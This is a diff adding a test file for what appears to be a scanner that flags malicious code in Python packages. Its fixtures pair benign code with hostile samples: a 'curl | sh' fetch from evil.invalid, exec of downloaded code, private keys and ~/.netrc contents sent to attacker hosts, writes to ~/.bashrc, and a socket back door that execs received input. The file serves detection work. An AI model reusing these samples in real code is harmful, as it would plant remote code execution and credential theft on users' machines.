@@ -1,0 +1,212 @@
+import { found, foundIn } from '../support/found.js';
+
+/** What honest projects did in the releases that people pin, each beside what looks like it and is not honest. */
+
+const FETCH = 'curl -s https://evil.invalid/x | sh';
+const HARMLESS = 'git -C . status | cat';
+
+describe('what no version 3 of Python runs', () => {
+  const branches = (test: string): string =>
+    `import os, sys\nV = tuple(sys.version_info)[:2]\nPY3 = V[0] == 3\n${test}`;
+
+  test.each([
+    `if sys.version_info[0] < 3:\n    os.system("${FETCH}")`,
+    `if sys.version_info < (3,):\n    os.system("${FETCH}")`,
+    `if sys.version_info >= (3, 0):\n    pass\nelse:\n    os.system("${FETCH}")`,
+    `if PY3:\n    pass\nelse:\n    os.system("${FETCH}")`,
+  ])('is not judged: %s', (test) => {
+    expect(found(branches(test))).not.toHaveProperty('hostile-command');
+  });
+
+  test.each([
+    `if sys.version_info[0] >= 3:\n    os.system("${FETCH}")`,
+    `if sys.version_info >= (3, 12):\n    pass\nelse:\n    os.system("${FETCH}")`,
+    `if V < (3, 5):\n    pass\nelif V:\n    os.system("${FETCH}")`,
+    `if os.getcwd():\n    PY3 = len(os.getcwd()) > 9\nif PY3:\n    pass\nelse:\n    os.system("${FETCH}")`,
+    `import pkg\npkg.PY3 = False\nif PY3:\n    pass\nelse:\n    os.system("${FETCH}")`,
+    `if sys.version_info[1] < 3:\n    os.system("${FETCH}")`,
+  ])('but what one of them may run is: %s', (test) => {
+    expect(found(branches(test))['hostile-command']).toBe('CRITICAL');
+  });
+});
+
+describe('a template that is filled from the names around it', () => {
+  test.each([
+    'os.system("%(line)s" % vars())',
+    'os.system("%(line)s" % locals())',
+    'os.system("{line}".format(**locals()))',
+    'os.system("{line}".format_map(vars()))',
+  ])('%s', (call) => {
+    const program = (line: string): string =>
+      `import os\ndef run():\n    line = "${line}"\n    ${call}\nrun()`;
+    expect(found(program(FETCH))['hostile-command']).toBe('CRITICAL');
+    expect(found(program(HARMLESS))['hostile-command']).toBeUndefined();
+  });
+});
+
+describe('an operator asks those methods that it stands for', () => {
+  const program = (method: string, test: string): string =>
+    `import os\nclass A:\n    def ${method}(self, *other): os.system("${FETCH}")\na = A()\n${test}`;
+
+  test.each([
+    ['__eq__', 'a == 1'],
+    ['__eq__', '1 != a'],
+    ['__ne__', 'a != 1'],
+    ['__lt__', 'a < 1'],
+    ['__gt__', '1 < a'],
+    ['__contains__', '1 in a'],
+    ['__contains__', '1 not in a'],
+    ['__iter__', '1 in a'],
+    ['__eq__', 'a in [1]'],
+  ])('%s for %s', (method, test) => {
+    expect(found(program(method, test))['hostile-command']).toBe('CRITICAL');
+  });
+});
+
+test('a logger keeps nothing of what is logged under a level of its own', () => {
+  const program = (call: string): string => `
+import logging, logging.handlers, requests
+log = logging.getLogger(__name__)
+def handle(private_key):
+    log.${call}
+    log.debug("signing with %s", private_key)
+`;
+  const sends = 'addHandler(logging.handlers.HTTPHandler("evil.invalid", "/", method="POST"))';
+  expect(found(program('trace("asked", requests.get("https://service.invalid/"))'))).not.toHaveProperty(
+    'key-parameter-sent',
+  );
+  expect(found(program(sends))).toHaveProperty('key-parameter-sent');
+});
+
+test('a folder of metadata that is removed is no program of the package', () => {
+  const program = (path: string): string => `
+import os
+def convert(name, version):
+    os.unlink(${path})
+convert(open("n").read(), open("v").read())`;
+  const main = { 'fixture-1.0/pkg/__main__.py': '' };
+  expect(
+    found(program('os.path.join(os.path.dirname(__file__), name + "-" + version + ".dist-info")'), main),
+  ).not.toHaveProperty('traces-removed');
+  expect(found(program('__file__'), main)).toHaveProperty('traces-removed', 'CRITICAL');
+});
+
+test('a file lies where it lies, whatever paths are written into it', () => {
+  const program = (path: string): string => `
+import os
+with open(${path}, "w") as file:
+    file.write("Set it in ~/.jupyter/jupyter_tool_config.py\\n")
+    file.write(os.getcwd())`;
+  expect(found(program('"docs/options.rst"'))).not.toHaveProperty('autostart-written');
+  expect(found(program('os.path.expanduser("~/.bashrc")'))).toHaveProperty('autostart-written', 'CRITICAL');
+});
+
+test('a release that git names is fetched, or what a command says is told', () => {
+  const setup = (address: string): Readonly<Partial<Record<string, string>>> =>
+    foundIn({
+      'fixture-1.0/setup.py': `
+import subprocess, urllib.request
+tag = subprocess.check_output(["git", "ls-remote", "--tags"]).decode().split()[-1]
+urllib.request.urlretrieve(${address}, "lib.tgz")`,
+      'fixture-1.0/pkg/__init__.py': '',
+    });
+  const release = '"https://github.com/owner/lib/releases/download/" + tag + "/lib.tgz"';
+  expect(setup(release)['stolen-data-sent']).toBe('HIGH');
+  expect(setup('"https://evil.invalid/" + tag')['stolen-data-sent']).toBe('CRITICAL');
+});
+
+test('setuptools that older projects fetch for themselves, or something else', () => {
+  const setup = (address: string): Readonly<Partial<Record<string, string>>> =>
+    foundIn({
+      'fixture-1.0/setup.py': `
+import subprocess, sys
+subprocess.check_call(["curl", "${address}", "--output", "archive.tar.gz"])
+subprocess.call([sys.executable, "unpacked/install.py"])`,
+      'fixture-1.0/pkg/__init__.py': '',
+    });
+  const own = 'https://pypi.python.org/packages/source/s/setuptools/setuptools-1.1.6.tar.gz';
+  expect(setup(own)['fetched-file-and-start']).toBe('HIGH');
+  expect(setup(own.replaceAll('setuptools', 'fixture'))['fetched-file-and-start']).toBe('CRITICAL');
+});
+
+test('a command line of click that a program nobody imports starts for whoever runs it', () => {
+  const files = (more: string): Readonly<Record<string, string>> => ({
+    'fixture-1.0/pkg/__init__.py': more,
+    'fixture-1.0/pkg/cli.py': `
+import click, os, requests
+@click.command()
+def main():
+    requests.post("https://service.invalid/", data=os.environ["SERVICE_TOKEN"]).json()`,
+    'fixture-1.0/pkg/migration.py': 'from pkg.cli import main\nmain(["--migrate"], standalone_mode=False)',
+  });
+  expect(foundIn(files(''))['stolen-data-sent']).not.toBe('CRITICAL');
+  expect(foundIn(files('from pkg import migration'))['stolen-data-sent']).toBe('CRITICAL');
+});
+
+test('what buildout gives a checkout to install buildout is no module', () => {
+  const files = {
+    'fixture-1.0/bootstrap.py':
+      'from urllib.request import urlopen\nexec(urlopen("https://evil.invalid/ez").read())',
+    'fixture-1.0/pkg/__init__.py': '',
+  };
+  expect(foundIn({ ...files, 'fixture-1.0/buildout.cfg': '[buildout]' })).not.toHaveProperty(
+    'remote-code-executed',
+  );
+  expect(foundIn(files)).toHaveProperty('remote-code-executed', 'CRITICAL');
+});
+
+test('a copy of a function that an answer chose is no code of the answer', () => {
+  const program = (code: string): string => `
+import marshal, requests, types
+table = requests.get("https://service.invalid/").json()
+types.FunctionType(${code}, globals())()`;
+  expect(found(program('table["name"].__code__'))).not.toHaveProperty('remote-code-executed');
+  expect(found(program('marshal.loads(requests.get("https://service.invalid/").content)'))).toHaveProperty(
+    'remote-code-executed',
+    'CRITICAL',
+  );
+});
+
+test('a compiler is not the program that was written for it', () => {
+  const setup = (command: string): Readonly<Partial<Record<string, string>>> =>
+    foundIn({
+      'fixture-1.0/setup.py': `
+import os, subprocess
+open("Hello.java", "w").write("class Hello {}")
+open("hello.exe", "w").write("class Hello {}")
+subprocess.call(${command})`,
+    });
+  expect(setup('[os.environ["JDK"] + "/javac.exe", "Hello.java"]')).not.toHaveProperty(
+    'dropped-program-started',
+  );
+  expect(setup('["hello.exe"]')).toHaveProperty('dropped-program-started', 'CRITICAL');
+});
+
+test('a service that bears the name of the package is told what signs in there', () => {
+  const program = (host: string): string => `
+import json, os, requests
+def sync():
+    key = json.load(open(os.path.expanduser("~/.config/cloud/credentials.json")))["token"]
+    try:
+        requests.get("https://${host}/v1", headers={"X-Key": key, "X-Other": open(os.path.expanduser("~/.netrc")).read()})
+    except Exception:
+        pass
+sync()`;
+  const script = (host: string): Readonly<Partial<Record<string, string>>> =>
+    foundIn({ 'fixture-1.0/some_cloud/__main__.py': program(host) });
+  expect(script('api.some-cloud.invalid')['stolen-data-sent']).toBe('HIGH');
+  expect(script('some-cloud.evil.invalid')['stolen-data-sent']).toBe('CRITICAL');
+});
+
+test('what workers hand each other is pickled and encoded, what a back door is sent is code', () => {
+  const program = (run: string): string => `
+import base64, json, pickle, socket
+def serve():
+    connection, _ = socket.create_server(("", 9)).accept()
+    ${run}(base64.b64decode(json.loads(connection.recv(99))["body"]))
+serve()`;
+  const script = (run: string): Readonly<Partial<Record<string, string>>> =>
+    foundIn({ 'fixture-1.0/pkg/__main__.py': program(run) });
+  expect(script('exec')['request-executed']).toBe('CRITICAL');
+  expect(script('pickle.loads')['request-executed']).not.toBe('CRITICAL');
+});
